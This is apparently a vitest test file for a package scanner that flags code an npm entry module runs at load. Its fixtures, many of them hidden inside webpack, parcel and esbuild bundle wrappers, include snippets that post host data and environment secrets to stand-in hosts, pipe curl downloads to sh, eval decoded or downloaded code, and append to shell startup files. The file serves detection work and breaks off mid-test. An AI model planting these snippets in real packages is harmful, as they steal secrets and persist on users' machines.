/**
 * The code an entry module runs when it is loaded (src/checks/lib/load-code.ts): what runs is
 * judged, what a user calls later is not. Snippets written for these tests.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { loadTimeText, readLoadJavaScript } from '../../src/checks/lib/load-code.js';

const HOST_DATA_SEND = "https.request({ hostname: 'collect.example', method: 'POST' }).end(JSON.stringify({ h: os.hostname(), u: os.userInfo().username }));";
const HEAD = "const os = require('os');\nconst https = require('https');\n";
/** HOST_DATA_SEND as one expression (the body of an arrow without braces). */
const SEND_EXPRESSION = HOST_DATA_SEND.slice(0, -1);

/** About 2,000 characters of top-level statements that write nothing and name no startup place. */
const SPACER = Array.from({ length: 150 }, (_, i) => `const v${i} = ${i};`).join('\n');

describe('readLoadJavaScript: findings at load', () => {
  test.each([
    ['host data sent at the top level', HEAD + HOST_DATA_SEND, ['exfiltration']],
    ['host data sent from a function called at once', `${HEAD}(function () { ${HOST_DATA_SEND} })();`, ['exfiltration']],
    ['host data sent from an async arrow called at once', `${HEAD}(async () => { ${HOST_DATA_SEND} })();`, ['exfiltration']],
    ['host data sent from a declared function the module calls', `${HEAD}function report() { ${HOST_DATA_SEND} }\nreport();`, ['exfiltration']],
    ['host data sent from a method of a class the module makes and calls', `${HEAD}class Probe { run() { ${HOST_DATA_SEND} } }\nnew Probe().run();`, ['exfiltration']],
    ['the environment sent through a bound module name', "const h = require('https');\nconst req = h.request('https://collect.example/e', { method: 'POST' });\nreq.end(JSON.stringify(process.env));", ['exfiltration']],
    ['the environment walked for secrets and sent at load', "const https = require('https');\nconst keys = Object.keys(process.env).filter((key) => /TOKEN|SECRET/.test(key));\nhttps.get('https://collect.example/?k=' + keys.join(','));", ['exfiltration']],
    ['a request-catcher host called at load', "require('https').get('https://abc123.oast.fun/ping');", ['beacon']],
    ['decoded text run as code', "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());", ['decoded-eval']],
    ['a download piped to a shell', "require('child_process').exec('curl -s https://get.example/x.sh | sh');", ['download-exec']],
    ['a download command line joined on after curl', "require('child_process').execSync('curl ' + u + ' | sh');", ['download-exec']],
    ['wget named alone and started', "const cp = require('child_process');\nconst bin = 'wget';\ncp.spawn(bin, [u]);", ['download-exec']],
    ['downloaded text run as code, in the response callback', "const https = require('https');\nhttps.get('https://get.example/p.js', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => eval(d)); });", ['remote-eval']],
    ['a file dropped on the Desktop and OneDrive at load (peacenotwar 9.1.7)', "import fs from 'fs';\nimport { homedir } from 'os';\nvar Desktops = `${homedir}/Desktop/`;\nvar OneDrive = `${homedir}/OneDrive/`;\nfunction deliver(path, message) { try { fs.writeFile(path, message, function (err) {}); } catch (err) {} }\nif (!exists) { deliver(`${Desktops}WITH-LOVE.txt`, msg); deliver(`${OneDrive}WITH-LOVE.txt`, msg); }", ['user-files']],
    ['a Desktop file written only by an exported function nobody calls', "const fs = require('fs');\nconst os = require('os');\nexports.saveToDesktop = function (name, data) { fs.writeFileSync(os.homedir() + '/Desktop/' + name, data); };", []],
    ['a write to the shell startup file', "const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(os.homedir() + '/.bashrc', '\\nnode ~/.cache/x.js &\\n');", ['persistence']],
    ['the shell startup file\'s path held by a name, appended to at load far below', `const fs = require('fs');\nconst os = require('os');\nconst rc = os.homedir() + '/.zshrc';\n${SPACER}\nfs.appendFileSync(rc, '\\nnode ~/.cache/x.js &\\n');`, ['persistence']],
  ])('%s', (_name, code, flags) => {
    expect(readLoadJavaScript(code)).toEqual(flags);
  });
});

/** A webpack 5 bundle as minified: a map of module factories by id, a loader, the entry required by id. */
const webpack5 = (entry: number, payloadId: number): string =>
  `(()=>{var e={12:(e,t,r)=>{r(34);e.exports=1},${payloadId}:(e,t,r)=>{const h=require("https");h.request({hostname:"c.example",method:"POST"}).end(JSON.stringify({h:require("os").hostname()}))},78:e=>{e.exports=2}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var i=t[n]={exports:{}};return e[n](i,i.exports,r),i.exports}var n=r(${entry});module.exports=n})();`;

/** A parcel 1 bundle (its prelude shortened): modules by id, each with its map of required paths to ids; the entry ids last. */
const parcel1 = (entry: string, payloadId: string): string =>
  `parcelRequire = (function (modules, cache, entry, globalName) {\n  function newRequire(name, jumped) {\n    if (!cache[name]) {\n      var module = cache[name] = new newRequire.Module(name);\n      modules[name][0].call(module.exports, localRequire, module, module.exports, this);\n    }\n    return cache[name].exports;\n    function localRequire(x) { return newRequire(localRequire.resolve(x)); }\n    function resolve(x) { return modules[name][1][x] || x; }\n  }\n  function Module(moduleName) { this.id = moduleName; this.bundle = newRequire; this.exports = {}; }\n  newRequire.Module = Module;\n  for (var i = 0; i < entry.length; i++) { newRequire(entry[i]); }\n  return newRequire;\n})({"Focm":[function(require,module,exports) {\nvar x = require("./x");\n},{"./x":"${payloadId === 'b2' ? 'b2' : 'c3'}"}],"b2":[function(require,module,exports) {\n${HEAD}${HOST_DATA_SEND}\n},{}],"c3":[function(require,module,exports) {\nmodule.exports = 1;\n},{}]},{},["${entry}"], null)`;

/** TypeScript's helper for async methods (its ES2017 output): the method's body is a generator handed to it. */
const AWAITER = 'var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) { return new (P || (P = Promise))(function (resolve, reject) { function step(result) { result.done ? resolve(result.value) : Promise.resolve(result.value).then((v) => step(generator.next(v))); } step((generator = generator.apply(thisArg, _arguments || [])).next()); }); };\n';
/** A class as TypeScript compiles it to ES2017 (an async method) and exports it; `after`: what the module does next. */
const tsClass = (after: string): string =>
  `"use strict";\n${AWAITER}Object.defineProperty(exports, "__esModule", { value: true });\n${HEAD}class Stealer {\n  constructor(token) { this.token = token; }\n  run() { return __awaiter(this, void 0, void 0, function* () { ${HOST_DATA_SEND} }); }\n}\nexports.default = Stealer;\n${after}`;
/** A class as TypeScript compiles it to ES5 (an IIFE, methods on the prototype), exported; `after`: what the module does next. */
const es5Class = (after: string): string =>
  `"use strict";\n${HEAD}var Stealer = /** @class */ (function () {\n  function Stealer(token) { this.token = token; }\n  Stealer.prototype.run = function () { ${HOST_DATA_SEND} };\n  return Stealer;\n}());\nexports.Stealer = Stealer;\n${after}`;

/** A minified webpack 5 bundle whose modules call the loader by their own third parameter's name (`n`, not the loader's `r`); `start`: how the entry is run. */
const webpack5Startup = (start: string): string =>
  `(()=>{var e={7:e=>e.exports=1,9:(e,t,n)=>n(11),11:(e,t,n)=>{const h=require("https");h.request({hostname:"c.example",method:"POST"}).end(JSON.stringify({h:require("os").hostname()}))}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var i=t[n]={exports:{}};return e[n](i,i.exports,r),i.exports}r.O=(e,t,n)=>{};r.X=(e,t,n)=>n();${start}})();`;

/** A parcel 2 bundle with scope hoisting (its prelude shortened): modules registered by id with parcelRequire's register; `after`: what the bundle's own code does. */
const parcel2 = (after: string): string =>
  `var $parcel$global = globalThis;\nvar parcelRequire = $parcel$global["parcelRequire94c2"];\nif (parcelRequire == null) { parcelRequire = function (id) { throw new Error(id); }; $parcel$global["parcelRequire94c2"] = parcelRequire; }\nvar parcelRegister = parcelRequire.register;\nparcelRegister("iZ3Qp", function (module, exports) {\n${HEAD}${HOST_DATA_SEND}\n});\nparcelRegister("aB1cD", function (module, exports) {\nmodule.exports = 1;\n});\n${after}`;
/** The same minified: the require and its register under short names. */
const parcel2Minified = (after: string): string =>
  `var e=globalThis,t=e.parcelRequire94c2;null==t&&((t=function(e){throw Error(e)}).register=function(e,t){},e.parcelRequire94c2=t);var r=t.register;r("iZ3Qp",function(e,t){${HEAD}${HOST_DATA_SEND}}),r("aB1cD",function(e,t){e.exports=1});${after}`;
/** A parcel 2 bundle without scope hoisting (its prelude shortened): parcel 1's module map, the entry ids and the global require's name last. */
const parcel2Map = (entry: string, dep: string): string =>
  `(function (modules, entry, mainEntry, parcelRequireName, globalName) {\n  var globalObject = typeof globalThis !== 'undefined' ? globalThis : {};\n  var cache = {};\n  function newRequire(name) {\n    if (!cache[name]) {\n      var module = (cache[name] = { exports: {} });\n      modules[name][0].call(module.exports, localRequire, module, module.exports, this);\n    }\n    return cache[name].exports;\n    function localRequire(x) { return newRequire(modules[name][1][x] || x); }\n  }\n  for (var i = 0; i < entry.length; i++) { newRequire(entry[i]); }\n  globalObject[parcelRequireName] = newRequire;\n})({"gLLPy":[function (require, module, exports, __globalThis) {\nvar x = require("./x");\n},{"./x":"${dep}"}],"b2":[function (require, module, exports, __globalThis) {\n${HEAD}${HOST_DATA_SEND}\n},{}],"c3":[function (require, module, exports, __globalThis) {\nmodule.exports = 1;\n},{}]},["${entry}"], "${entry}", "parcelRequire94c2")`;

describe('readLoadJavaScript: the ways code is run at load', () => {
  test.each([
    ['process.nextTick', `${HEAD}process.nextTick(function () { ${HOST_DATA_SEND} });`],
    ['setImmediate', `${HEAD}setImmediate(() => { ${HOST_DATA_SEND} });`],
    ['queueMicrotask', `${HEAD}queueMicrotask(() => { ${HOST_DATA_SEND} });`],
    ['Promise.resolve().then', `${HEAD}Promise.resolve().then(() => { ${HOST_DATA_SEND} });`],
    ["a promise's executor", `${HEAD}new Promise((resolve) => { ${HOST_DATA_SEND} resolve(); });`],
    ['module.exports set to what a function called at once returns', `${HEAD}module.exports = (function () { ${HOST_DATA_SEND} return {}; }());`],
    ['an IIFE run through .call', `${HEAD}(function () { ${HOST_DATA_SEND} }).call(this);`],
    ['!function(){}()', `${HEAD}!function () { ${HOST_DATA_SEND} }();`],
    ['void function(){}()', `${HEAD}void function () { ${HOST_DATA_SEND} }();`],
    ['a named function expression called at once', `${HEAD}(function go() { ${HOST_DATA_SEND} })();`],
    ['an arrow function bound to a name and called', `${HEAD}const go = async () => { ${HOST_DATA_SEND} };\ngo().catch(() => {});`],
    ['a function expression bound to a name and called', `${HEAD}var go = function () { ${HOST_DATA_SEND} };\ngo();`],
    ['a function the module exports and calls', `${HEAD}exports.go = function () { ${HOST_DATA_SEND} };\nmodule.exports.go();`],
    ["an object's method called by the object's name", `${HEAD}const probe = { run() { ${HOST_DATA_SEND} } };\nprobe.run();`],
    ["an object's function-valued key called through .call", `${HEAD}const probe = { run: function () { ${HOST_DATA_SEND} } };\nprobe.run.call(null);`],
    ['a class static block', `${HEAD}class A { static { ${HOST_DATA_SEND} } }`],
    ['a declared function handed to a timer by name', `${HEAD}function main() { ${HOST_DATA_SEND} }\nsetTimeout(main, 100);`],
    ['an arrow bound to a name handed to process.nextTick', `${HEAD}const main = () => { ${HOST_DATA_SEND} };\nprocess.nextTick(main);`],
    ['an async function handed to then by name', `${HEAD}async function main() { ${HOST_DATA_SEND} }\nPromise.resolve().then(main);`],
    ["an exit handler registered by name", `${HEAD}function onExit() { ${HOST_DATA_SEND} }\nprocess.on('exit', onExit);`],
    ["an object's functions called by a computed name", `${HEAD}const steps = { a() {}, b: function () { ${HOST_DATA_SEND} } };\nfor (const k of Object.keys(steps)) steps[k]();`],
    ["a webpack 5 bundle's entry module", webpack5(56, 56)],
    ["a module a webpack 5 bundle's entry requires", webpack5(12, 34)],
    ["a webpack 4 bundle's entry module (a map by index, `n(n.s = 1)`)", 'module.exports=function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}return n(n.s=1)}([function(e,t){e.exports=1},function(e,t,n){n(0);var h=require("https");h.request({hostname:"c.example",method:"POST"}).end(JSON.stringify(process.env))}]);'],
    ["a webpack 4 development bundle's entry module (a map by path)", `module.exports = (function (modules) { var installedModules = {}; function __webpack_require__(moduleId) { var module = installedModules[moduleId] = { exports: {} }; modules[moduleId].call(module.exports, module, module.exports, __webpack_require__); return module.exports; } return __webpack_require__(__webpack_require__.s = "./src/index.js"); })({ "./src/index.js": (function (module, exports, __webpack_require__) { ${HEAD}${HOST_DATA_SEND} }) });`],
    ['an esbuild bundle\'s module run by its require_ wrapper', `var __commonJS = (cb, mod) => function __require() { return mod || (0, cb[Object.keys(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; };\nvar require_probe = __commonJS({ "probe.js"(exports, module) { ${HEAD}${HOST_DATA_SEND} } });\nmodule.exports = require_probe();`],
    ["an esbuild bundle's module required by another module that runs", `var __commonJS = (cb, mod) => () => mod;\nvar require_b = __commonJS({ "b.js"(exports, module) { ${HEAD}${HOST_DATA_SEND} } });\nvar require_a = __commonJS({ "a.js"(exports, module) { require_b(); } });\nrequire_a();`],
    ["an esbuild bundle's module run by its init_ wrapper (__esm)", `var __esm = (fn, res) => function __init() { return fn && (res = (0, fn[Object.keys(fn)[0]])(fn = 0)), res; };\nvar init_probe = __esm({ "probe.js"() { ${HEAD}${HOST_DATA_SEND} } });\ninit_probe();`],
    ['the constructor of a class made at load', `${HEAD}class Stealer { constructor() { ${HOST_DATA_SEND} } }\nnew Stealer();`],
    ['a method the constructor calls by a computed name on this', `${HEAD}class Stealer { constructor() { for (const k of ['run']) this[k](); } run() { ${HOST_DATA_SEND} } }\nnew Stealer();`],
    ['a class without a name made where it is written (new (class { … })())', `${HEAD}new (class { constructor() { ${HOST_DATA_SEND} } })();`],
    ['a class without a name made where it is written (new class { … }())', `${HEAD}new class { constructor() { ${HOST_DATA_SEND} } }();`],
    ['a class bound to a name and made by it', `${HEAD}const Stealer = class { constructor() { ${HOST_DATA_SEND} } };\nnew Stealer();`],
    ['functions in an array walked by forEach that calls each', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nfunction send() {}\n[steal, send].forEach((f) => f());`],
    ['functions in an array walked by map that calls each', `${HEAD}function steal() { ${HOST_DATA_SEND} }\n[steal].map(fn => fn());`],
    ['functions in an array walked by for … of that calls each', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nfor (const f of [steal]) f();`],
    ['a function written in an array walked by forEach that calls each', `${HEAD}[function () { ${HOST_DATA_SEND} }].forEach((f) => f());`],
    ['a named array of functions walked by forEach that calls each', `${HEAD}const steal = () => { ${HOST_DATA_SEND} };\nconst steps = [steal];\nsteps.forEach((f) => f());`],
    ['a function written in a named array called by index', `${HEAD}const steps = [function () { ${HOST_DATA_SEND} }];\nsteps[0]();`],
    ['Reflect.apply of a declared function', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nReflect.apply(steal, null, []);`],
    ['a declared function bound and called at once', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nsteal.bind(null)();`],
    ['a declared function bound to another name called by it', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nconst go = steal.bind(null);\ngo();`],
    ["a minified esbuild bundle's module run by its wrapper's name (__commonJS)", `${HEAD}var c=(e,t)=>()=>(t||e((t={exports:{}}).exports,t),t.exports);var f=c((e,t)=>{${HOST_DATA_SEND}});f();`],
    ["a minified esbuild bundle's module run by its wrapper's name (__esm)", `${HEAD}var o=(e,t)=>()=>(e&&(t=e(e=0)),t);var i=o(()=>{${HOST_DATA_SEND}});i();`],
    ["a parcel 1 bundle's entry module", parcel1('b2', 'c3')],
    ["a module a parcel 1 bundle's entry requires", parcel1('Focm', 'b2')],
    ["an exported function called through exports['x']()", `${HEAD}exports.steal = function () { ${HOST_DATA_SEND} };\nexports['steal']();`],
    ["a webpack 5 bundle's module required by the entry through the module's own loader parameter", webpack5Startup('module.exports=r(9);')],
    ["a webpack 5 bundle's entry run by its loader's O helper once its chunks are in", webpack5Startup('var n=r.O(void 0,[736],(()=>r(11)));n=r.O(n);module.exports=n;')],
    ["a webpack 5 bundle's entry run by its loader's X helper (startup entrypoint)", webpack5Startup('var n=r.X(0,[736],()=>r(9));module.exports=n;')],
    ["a parcel 2 bundle's registered module its code requires (scope hoisting)", parcel2('parcelRequire("iZ3Qp");\nmodule.exports = 1;')],
    ["a minified parcel 2 bundle's registered module its code requires", parcel2Minified('module.exports=t("iZ3Qp");')],
    ["a module a parcel 2 bundle's entry requires (no scope hoisting)", parcel2Map('gLLPy', 'b2')],
    ["a parcel 2 bundle's entry module (no scope hoisting)", parcel2Map('b2', 'c3')],
    ['a method of a class compiled to ES5, made and called at load', es5Class('new Stealer(process.env.TOKEN).run();')],
    ['an async method of a class compiled by TypeScript, made and called at load', tsClass('new Stealer(process.env.TOKEN).run();')],
    ['host data sent at the top level beside an exported class nobody makes', tsClass(HOST_DATA_SEND)],
    ['host data sent at the top level beside an exported ES5 class nobody makes', es5Class(HOST_DATA_SEND)],
    ['an arrow with an expression body bound to a name and called', `${HEAD}const steal = () => ${SEND_EXPRESSION};\nsteal();`],
    ['an arrow of one parameter with an expression body assigned to exports and called', `${HEAD}exports.steal = (a) => ${SEND_EXPRESSION};\nexports.steal(1);`],
    ['an arrow with an expression body handed to a timer', `${HEAD}setTimeout(() => ${SEND_EXPRESSION}, 10);`],
    ['an arrow with an expression body called at once', `${HEAD}(() => ${SEND_EXPRESSION})();`],
    ['an async arrow with an expression body called at once through .call', `${HEAD}(async () => ${SEND_EXPRESSION}).call(this);`],
    ['an arrow with an expression body that goes on to the next line, called', `${HEAD}const steal = () =>\n  ${SEND_EXPRESSION}\nsteal()`],
    ['host data sent on the line after an arrow with an expression body, no semicolons', `${HEAD}const noop = () => null\n${HOST_DATA_SEND.slice(0, -1)}\nmodule.exports = noop`],
    ['host data sent after an exported arrow with an expression body, on the same line', `${HEAD}export const noop = (a) => a; ${HOST_DATA_SEND}`],
    ["host data sent as the alternative of a conditional whose other branch is an arrow (the arrow's body ends at the `:`)", `${HEAD}module.exports = process.env.CI ? () => null : ${SEND_EXPRESSION};`],
    ['host data sent as the alternative of a conditional whose other branch is an async arrow with a conditional of its own', `${HEAD}const x = process.env.CI ? async (a) => (a ? 1 : 2) : ${SEND_EXPRESSION};`],
    ['host data sent after an arrow whose expression uses ?? and ?. beside a conditional', `${HEAD}const pick = process.env.A ? (o) => o?.a ?? o?.[0] : ${SEND_EXPRESSION};`],
    ['host data sent from a callback wrapped in parentheses, handed to forEach (minified)', `${HEAD}[1].forEach(((e) => { ${HOST_DATA_SEND} }));`],
    ['host data sent from an arrow with an expression body wrapped in parentheses, handed to map (minified)', `${HEAD}[1].map((e => ${SEND_EXPRESSION}));`],
    ['host data sent from a callback handed to find', `${HEAD}[1].find((e) => { ${HOST_DATA_SEND} });`],
    ['the environment dumped from a callback wrapped in parentheses, handed to filter, and sent', "const https = require('https');\nconst k = [1].filter((e => JSON.stringify(process.env)));\nhttps.get('https://collect.example/?k=' + k);"],
  ])('%s', (_name, code) => {
    expect(readLoadJavaScript(code)).toEqual(['exfiltration']);
  });

  test("a Discord webhook client made with the webhook's id and token written in the code, used at load", () => {
    expect(readLoadJavaScript("const { WebhookClient } = require('discord.js');\nnew WebhookClient({ id: '766342517549301771', token: 'r5lqtrhieTfiwqhneOrtWQsK0WtT' }).send('x');")).toEqual(['beacon']);
  });
});

describe('readLoadJavaScript: what a library does when asked is not a finding', () => {
  test.each([
    ['an SDK that sends os.hostname() only inside an exported function', `${HEAD}module.exports = function report() { ${HOST_DATA_SEND} };`],
    ['an SDK whose client method sends the host name', `${HEAD}class Client { send(event) { ${HOST_DATA_SEND} } }\nmodule.exports = new Client();`],
    ['telemetry that sends on an explicit call, with host data read into defaults at load', `${HEAD}const defaults = { host: os.hostname(), pid: process.pid };\nexports.capture = function (e) { https.request({ hostname: 't.example', method: 'POST' }).end(JSON.stringify({ ...defaults, e })); };`],
    ['an object method that posts the environment', "const https = require('https');\nmodule.exports = { flush() { https.request('https://t.example').end(JSON.stringify(process.env)); } };"],
    ['a network import beside host data, no call at load', `${HEAD}const hostname = os.hostname();\nmodule.exports = { hostname };`],
    ['a bundle naming ~/.zshrc in a settings hint, its file writes at load far away', `const fs = require('fs');\nconst tips = { read: 'For example: Open(~/.zshrc)' };\n${SPACER}\nfs.writeFileSync(out, JSON.stringify(state));`],
    ['a shell completion script held as text', "export const completion = `# Installation: app completion >> ~/.bashrc\\n_app() { :; }`;"],
    ['a shell completion script held as text beside child_process (yargs as create-qwik 1.20.1 bundles it)', "const cp = require('child_process');\nvar la = `###-begin-{{app_name}}-completions-###\n#\n# Installation: {{app_path}} {{completion_command}} >> ~/.bashrc\n#    or {{app_path}} {{completion_command}} >> ~/.bash_profile on OSX.\n#\n_{{app_name}}_yargs_completions()\n`;"],
    ['a getter defined through a function, named like a host-data call, beside a network import', "var http = require('http');\nvar isIP = require('net').isIP;\nvar req = Object.create(http.IncomingMessage.prototype);\ndefineGetter(req, 'hostname', function hostname() { return this.get('Host'); });\ndefineGetter(req, 'ip', function ip() { return proxyaddr(this, os.hostname()); });"],
    ['the global object found by Function("return this") beside feature detection of XMLHttpRequest', "var g = typeof self !== 'undefined' ? self : Function('return this')();\nvar xhr = typeof XMLHttpRequest !== 'undefined' && 'withCredentials' in new XMLHttpRequest();"],
    ['calls named in strings (a rule table of deprecated APIs) beside a network import', "const http = require('http');\nmodule.exports = { http: { createClient: { replacedBy: \"'http.request()'\" } }, os: { getNetworkInterfaces: { replacedBy: \"'os.networkInterfaces()'\" } } };"],
    ['a route handler registered at load', "const app = require('express')();\nconst https = require('https');\napp.use('/x', (req, res) => { https.get('https://t.example/?h=' + os.hostname()); });"],
    ['a declared function never called', "function boot() { eval(Buffer.from('eA==', 'base64').toString()); }\nmodule.exports = boot;"],
    ["a webpack 5 bundle's module that the entry never requires", webpack5(12, 56)],
    ['a function handed by name to util.promisify and exported (wrapped, not run)', `${HEAD}function send(cb) { ${HOST_DATA_SEND} }\nmodule.exports = require('util').promisify(send);`],
    ['a table of handlers called by a computed name only inside an exported function', `${HEAD}const handlers = { report() { ${HOST_DATA_SEND} } };\nexports.dispatch = function (name) { return handlers[name](); };`],
    ['an arrow function bound to a name and exported, not called', `${HEAD}const report = () => { ${HOST_DATA_SEND} };\nmodule.exports = { report };`],
    ["the debug package's walk for its own DEBUG_ settings, bundled beside a request made at load (miniflare 4.20260730.0)", "const https = require('https');\nexports.inspectOpts = Object.keys(process.env).filter((key) => {\n  return /^debug_/i.test(key);\n}).reduce((obj, key) => obj, {});\nhttps.get('https://api.example/v1');"],
    ['an exported function beside another exported function the module calls', `${HEAD}exports.report = function () { ${HOST_DATA_SEND} };\nexports.init = function () {};\nexports.init();`],
    ["an object's method whose name another object's called method shares", `${HEAD}const client = { send() { ${HOST_DATA_SEND} } };\nconst queue = { send() {} };\nqueue.send();\nmodule.exports = client;`],
    ["a Discord webhook client made from the user's configuration (discord.js's documented use)", "const { WebhookClient } = require('discord.js');\nconst hook = new WebhookClient({ url: process.env.WEBHOOK_URL });\nhook.send('deployed');"],
    ["a Telegram bot made from the user's token (telegraf's documented use)", "const { Telegraf } = require('telegraf');\nconst bot = new Telegraf(process.env.BOT_TOKEN);\nbot.launch();"],
    ["an esbuild bundle's module nothing requires", `var __commonJS = (cb, mod) => function __require() { return mod || (0, cb[Object.keys(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; };\nvar require_probe = __commonJS({ "probe.js"(exports, module) { ${HEAD}${HOST_DATA_SEND} } });\nmodule.exports = 1;`],
    ["an esbuild __esm module never initialised", `var __esm = (fn, res) => function __init() { return fn && (res = (0, fn[Object.keys(fn)[0]])(fn = 0)), res; };\nvar init_probe = __esm({ "probe.js"() { ${HEAD}${HOST_DATA_SEND} } });\nexport { init_probe };`],
    ['a class declared and exported, never made', `${HEAD}class Stealer { constructor() { ${HOST_DATA_SEND} } }\nmodule.exports = Stealer;`],
    ['a class bound to a name and exported, never made', `${HEAD}const Stealer = class { constructor() { ${HOST_DATA_SEND} } };\nmodule.exports = Stealer;`],
    ['a class made where it is written inside a function nobody calls', `${HEAD}function later() { new (class { constructor() { ${HOST_DATA_SEND} } })(); }\nmodule.exports = later;`],
    ['a class made at load whose constructor sets fields by a computed name (not a call)', `${HEAD}class Client { constructor(o) { for (const k of Object.keys(o)) this[k] = o[k]; } send() { ${HOST_DATA_SEND} } }\nmodule.exports = new Client({});`],
    ['an array of functions stored and exported', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nmodule.exports = [steal];`],
    ['an array of functions walked without calling them (plugins registered)', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nconst plugins = [];\n[steal].forEach((p) => plugins.push(p));\nmodule.exports = plugins;`],
    ['a named array of functions walked only by an exported function', `${HEAD}const steps = [function () { ${HOST_DATA_SEND} }];\nexports.run = () => { steps.forEach((f) => f()); };`],
    ["a parcel 1 bundle's module that the entry does not require", parcel1('Focm', 'c3')],
    ["a minified esbuild bundle's module whose wrapper nobody calls", `${HEAD}var c=(e,t)=>()=>(t||e((t={exports:{}}).exports,t),t.exports);var f=c((e,t)=>{${HOST_DATA_SEND}});module.exports=1;`],
    ['a function wrapped by a memoizer and exported, not called', `${HEAD}const report = memoize(() => { ${HOST_DATA_SEND} });\nmodule.exports = report;`],
    ['a declared function bound and exported, not called', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nmodule.exports = steal.bind(null);`],
    ["a parcel 2 bundle's registered module that nothing requires", parcel2('module.exports = parcelRequire("aB1cD");')],
    ["a parcel 2 bundle's registered module required only inside an exported function", parcel2('module.exports = function () { return parcelRequire("iZ3Qp"); };')],
    ["a minified parcel 2 bundle's registered module that nothing requires", parcel2Minified('module.exports=t("aB1cD");')],
    ["a parcel 2 bundle's module that its entry does not require (no scope hoisting)", parcel2Map('gLLPy', 'c3')],
    ['a class compiled by TypeScript (async method) exported and never made', tsClass('')],
    ['a class compiled to ES5 exported and never made', es5Class('')],
    ['a class compiled to ES5 made at load whose sending method nobody calls', es5Class('exports.client = new Stealer(process.env.TOKEN);')],
    ["a webpack 5 bundle whose entry (run by its loader) requires none of the payload's chain", webpack5Startup('var n=r.O(void 0,[736],(()=>r(7)));module.exports=n;')],
    ["a webpack 5 bundle whose O helper is handed a function inside a function nobody calls", webpack5Startup('exports.later=()=>{r.O(0,[1],()=>r(9))};')],
    ["a webpack 5 chunk file's modules, read alone (its runtime asks for them by id when it needs them)", `exports.id=179,exports.ids=[179],exports.modules={56:(e,t,r)=>{${HEAD}${HOST_DATA_SEND}}};`],
    ["a webpack 5 chunk's modules pushed for the page's runtime", `(self.webpackChunkx=self.webpackChunkx||[]).push([[179],{56:(e,t,r)=>{${HEAD}${HOST_DATA_SEND}}}]);`],
    ['an arrow with an expression body bound to a name and exported, not called', `${HEAD}const report = () => ${SEND_EXPRESSION};\nmodule.exports = { report };`],
    ['an exported arrow with an expression body (export const f = (a) => …), not called', `${HEAD}export const report = (a) => ${SEND_EXPRESSION};`],
    ['an arrow of one parameter with an expression body assigned to exports, not called', `${HEAD}exports.report = a => ${SEND_EXPRESSION};`],
    ['arrows with expression bodies as the values of an exported object', `${HEAD}module.exports = { report: () => ${SEND_EXPRESSION}, name: (a) => a };`],
    ['an arrow with an expression body, no semicolons, its expression going on to the next line', `${HEAD}const report = () =>\n  ${SEND_EXPRESSION}\nmodule.exports = report`],
    ['a class field holding an arrow with an expression body, the class never made', `${HEAD}class Client { send = () => ${SEND_EXPRESSION}; }\nmodule.exports = Client;`],
    ['an arrow with an expression body handed to a call that keeps it (a getter defined)', `${HEAD}Object.defineProperty(exports, 'report', { get: () => ${SEND_EXPRESSION} });`],
    ['an arrow with an expression body as the consequent of a conditional, exported, not called', `${HEAD}module.exports = process.env.CI ? () => ${SEND_EXPRESSION} : null;`],
    ["an arrow whose expression body is a conditional of its own, exported, not called", `${HEAD}module.exports = () => (process.env.CI ? null : ${SEND_EXPRESSION});
exports.other = () => process.env.CI ? null : ${SEND_EXPRESSION};`],
    ['an arrow whose expression body is a conditional holding another arrow, exported, not called', `${HEAD}module.exports = () => process.env.CI ? () => 1 : ${SEND_EXPRESSION};`],
    ['a callback wrapped in parentheses handed to a call that keeps it (a function wrapped), exported', `${HEAD}module.exports = memoize(((e) => { ${HOST_DATA_SEND} }));`],
    ['a callback wrapped in parentheses handed to filter inside a function nobody calls', `${HEAD}exports.later = function () { return [1].filter((e => ${SEND_EXPRESSION})); };`],
  ])('%s', (_name, code) => {
    expect(readLoadJavaScript(code)).toEqual([]);
  });

  /** The debug package's Node half as mailgun.js 14.0.1 bundles it minified (fixtures/PROVENANCE.md): its wrapper `In()` is called by the bundle's other modules, left out of the cut. */
  const mailgunDebug = readFileSync(new URL('../../fixtures/load-code/excerpts/mailgun.js@14.0.1/mailgun.node.js', import.meta.url), 'utf8');

  test("the debug package's walk for its own DEBUG_ settings, minified (its filter's callback wrapped in parentheses), beside a request made at load (mailgun.js 14.0.1)", () => {
    const code = `import o from"https";${mailgunDebug}In();o.get("https://api.example/v3");`;
    expect(loadTimeText(code)).toContain('.filter((e=>/^debug_/i.test(e)))');
    expect(readLoadJavaScript(code)).toEqual([]);
  });
});

describe('loadTimeText', () => {
  test('the bodies of functions not run at load are emptied; control blocks and callbacks are kept', () => {
    expect(loadTimeText('if (a) { b() }\nexports.f = function () { c() };\nsetTimeout(() => { d() });')).toBe('if (a) { b() }\nexports.f = function () {};\nsetTimeout(() => { d() });');
  });

  test('braces in strings, templates, regular expressions and comments are not structure', () => {
    expect(loadTimeText("const r = /[{]/g; const s = '}'; const t = `{`; // }\nfunction f() { x() }")).toBe("const r = /[{]/g; const s = '}'; const t = `{`; \nfunction () {}");
  });

  test('a template nested in a substitution is one literal: what follows it is read as code (create-react-app 5.1.0, http-server 14.1.1)', () => {
    // As http-server's show-dir writes it: templates inside the `${…}` of another, with `</` and brackets between.
    const nested = "html += `${[\n  `<title>Index of ${he.encode(pathname)}</title>`,\n  '</head>',\n].join('\\n')}\\n`;\nconst b = `${version}/${t ? `${t}/` : '}'}`;\n";
    expect(loadTimeText(`${nested}function f() { x() }`)).toBe(`${nested}function () {}`);
